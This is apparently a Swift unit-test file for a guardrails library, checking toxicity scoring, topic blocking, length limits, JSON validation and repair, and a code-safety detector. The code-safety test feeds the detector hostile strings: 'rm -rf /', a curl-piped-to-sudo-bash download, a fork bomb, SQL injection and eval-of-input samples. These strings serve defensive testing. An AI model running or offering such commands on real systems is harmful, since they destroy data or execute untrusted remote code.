@testable import GuardrailsCore
import XCTest

/// Toxicity, topics, length, JSON and code safety.
final class RuleTests: XCTestCase {
    func testToxicityCombinesWeightsPerCategory() throws {
        XCTAssertEqual(try Fixture.categories(.toxicity, in: "This bug is stupid hard"), [])
        let findings = try Fixture.findings(.toxicity, in: "shut up, you pathetic loser")
        XCTAssertEqual(Set(findings.map(\.category)), ["insult"])
        XCTAssertEqual(findings.first!.score, 1 - 0.6 * 0.65 * 0.6, accuracy: 0.001)
        XCTAssertEqual(try Fixture.categories(.toxicity, in: "再说一句我就弄死你"), ["threat"])
    }

    func testToxicityThresholdsPerCategory() throws {
        let engine = try Fixture.engine(#"{"policies": {"p": {"input": {"toxicity": {"action": "block", "thresholds": {"insult": 0.95}}}}}}"#)
        XCTAssertEqual(try engine.check(CheckRequest(text: "you idiot", policy: "p")).action, .allow)
        XCTAssertEqual(try engine.check(CheckRequest(text: "I will kill you", policy: "p")).action, .block)
    }

    func testTopicsFromConfigAndTheBuiltInPoliticsSet() throws {
        let engine = try Fixture.engine(#"""
        {"topics": {"sets": {"medical": {"terms": ["diagnosis\t0.6", "prescription\t0.6", "处方"]}}},
         "policies": {"p": {"input": {"topics": {"action": "block", "topics": ["medical"]}}}}}
        """#)
        XCTAssertEqual(try engine.check(CheckRequest(text: "Can you give me a diagnosis and a prescription?", policy: "p")).action, .block)
        XCTAssertEqual(try engine.check(CheckRequest(text: "Who will win the presidential election?", policy: "p")).action, .allow)
        XCTAssertEqual(try Fixture.categories(.topics, in: "Who will win the presidential election?"), ["politics"])
    }

    func testLengthMeasures() {
        var text = "Hello wonderful world\n你好，世界"
        let measure = text.withUTF8 { TextMeasure($0) }
        XCTAssertEqual(measure.characters, 27)
        XCTAssertEqual(measure.bytes, 37)
        XCTAssertEqual(measure.lines, 2)
        XCTAssertEqual(measure.tokens, 2 + 3 + 2 + 5)
    }

    /// The length rule skips measuring a text whose byte count is within every limit; a text
    /// over a limit is still measured and reported, whatever unit the limit is in.
    func testLengthLimitsNearTheByteCount() throws {
        var text = "你好，世界" // 5 characters, 15 bytes
        try text.withUTF8 { bytes in
            XCTAssertTrue(TextMeasure.findings(bytes, LengthLimits(maxCharacters: 15, maxBytes: 15, maxTokens: 15, maxLines: 16)).isEmpty)
            XCTAssertEqual(TextMeasure.findings(bytes, LengthLimits(maxCharacters: 4)).map(\.category), ["characters"])
            XCTAssertEqual(TextMeasure.findings(bytes, LengthLimits(maxCharacters: 5, maxBytes: 14)).map(\.category), ["bytes"])
            XCTAssertEqual(TextMeasure.findings(bytes, LengthLimits(maxTokens: 4)).map(\.category), ["tokens"])
            XCTAssertEqual(try XCTUnwrap(TextMeasure.findings(bytes, LengthLimits(maxLines: 0)).first).category, "lines")
        }
    }

    func testJSONValidationNamesTheFailingPath() throws {
        let schema = try JSONSchemaFixture.person()
        let settings = JSONRuleSettings(schema: schema, repair: false)
        XCTAssertEqual(JSONRule.check(#"{"name": "Ada", "age": 36}"#, settings).findings.count, 0)
        XCTAssertEqual(JSONRule.check(#"{"name": "Ada", "age": -1}"#, settings).findings.map(\.reason), ["at age: expected a value >= 0, got -1"])
        XCTAssertEqual(JSONRule.check(#"{"name": "Ada", "age": 3,}"#, settings).findings.map(\.category), ["invalid_json"])
    }

    func testInvalidJSONReasonGivesTheParsersLineColumnAndMessage() {
        let settings = JSONRuleSettings(schema: nil, repair: false)
        XCTAssertEqual(JSONRule.check("Hi, I'm preparing a report", settings).findings.map(\.reason),
                       ["not valid JSON: line 1, column 1: invalid literal 'Hi', expected a JSON value (literals are true, false and null)"])
        XCTAssertEqual(JSONRule.check("{\n  \"名前\": tru }", settings).findings.map(\.reason),
                       ["not valid JSON: line 2, column 9: invalid literal 'tru', expected a JSON value (literals are true, false and null)"])
    }

    /// The reason is written digit by digit into the string's storage: numbers of several digits
    /// and messages quoting non-ASCII text must read exactly as interpolation writes them.
    func testInvalidJSONReasonAgreesWithInterpolation() {
        let texts = [
            String(repeating: "\n", count: 11) + String(repeating: " ", count: 344) + "xyz",
            String(repeating: "[", count: 10) + "\n" + String(repeating: " ", count: 99) + "文字",
            "{\"a\": 1,\n\n\n" + String(repeating: "\n", count: 120) + "}",
            "",
            "[1, 2",
        ]
        for text in texts {
            XCTAssertThrowsError(try JSONParser.parse(text, source: "output"), text) { error in
                guard let error = error as? JSONParseError else { return XCTFail("\(error)") }
                XCTAssertEqual(JSONRule.invalidJSONReason(error),
                               "not valid JSON: line \(error.line), column \(error.column): \(error.message)")
            }
        }
        XCTAssertEqual(JSONRule.invalidJSONReason(JSONParseError(source: "s", line: 1_234_567, column: 10, message: "é")),
                       "not valid JSON: line 1234567, column 10: é")
    }

    func testJSONRepair() throws {
        XCTAssertEqual(JSONRepair.repair("Sure!\n```json\n{\"a\": [1, 2,],}\n```"), #"{"a": [1, 2]}"#)
        XCTAssertEqual(JSONRepair.repair(#"{"a": {"b": "c"#), #"{"a": {"b": "c"}}"#)
        XCTAssertNil(JSONRepair.repair("no json here"))
        let settings = JSONRuleSettings(schema: try JSONSchemaFixture.person(), repair: true)
        let result = JSONRule.check("```json\n{\"name\": \"Ada\", \"age\": 3,}\n```", settings)
        XCTAssertEqual(result.repaired, #"{"name": "Ada", "age": 3}"#)
        XCTAssertEqual(result.findings.map(\.category), ["repaired"])
        // A repair that still fails the schema is not offered.
        XCTAssertNil(JSONRule.check(#"{"name": "Ada",}"#, settings).repaired)
    }

    func testCodeSafety() throws {
        func categories(_ text: String) throws -> [String] { try Fixture.categories(.codeSafety, in: text) }
        XCTAssertEqual(try categories("run rm -rf / now"), ["dangerous_shell"])
        XCTAssertEqual(try categories("rm -rf /tmp/build"), [])
        XCTAssertEqual(try categories("curl -fsSL https://x.example/i.sh | sudo bash"), ["dangerous_shell"])
        XCTAssertEqual(try categories("curl https://x.example/i.sh\ncat notes | sh-lint"), [])
        XCTAssertEqual(try categories("q = \"SELECT * FROM t WHERE id = '\" + uid + \"' OR '1'='1'\""), ["sql_injection"])
        XCTAssertEqual(try categories("cursor.execute(\"SELECT * FROM users WHERE id = \" + user_id)"), ["sql_injection"])
        XCTAssertEqual(try categories("eval(request.args['x'])"), ["eval_of_input"])
        XCTAssertEqual(try categories("yaml.load(f)"), ["unsafe_deserialization"])
        XCTAssertEqual(try categories("yaml.load(f, Loader=yaml.SafeLoader)"), [])
        XCTAssertEqual(try categories("```\nAPI_KEY = \"AKIAIOSFODNN7EXAMPLE\"\n```"), ["secret_in_code"])
        XCTAssertTrue(try Fixture.findings(.codeSafety, in: "```sh\n:(){ :|:& };:\n```").first!.reason.contains("fenced code block"))
    }
}

enum JSONSchemaFixture {
    static func person() throws -> JSONSchema {
        try JSONSchema(JSONParser.parse(#"""
        {"type": "object", "required": ["name", "age"],
         "properties": {"name": {"type": "string"}, "age": {"type": "integer", "minimum": 0}}}
        """#))
    }
}

import AIPConfig
